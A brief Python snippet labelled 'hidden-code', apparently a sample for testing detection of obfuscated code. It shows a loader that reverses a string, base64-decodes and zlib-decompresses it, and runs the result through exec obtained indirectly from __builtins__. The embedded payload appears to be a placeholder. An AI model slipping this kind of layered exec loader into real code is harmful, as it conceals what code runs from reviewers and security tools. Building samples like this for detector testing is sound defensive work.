# family: hidden-code
# several layers: reversed string, base64, zlib, then exec via __builtins__ dict
import base64 as b, zlib as z

data = "==wN3MmV2YlVGZjBTMlVDN1ETZxIDN0kDO2AzY"[::-1]
__builtins__.__dict__["exec"](z.decompress(b.b64decode(data)))
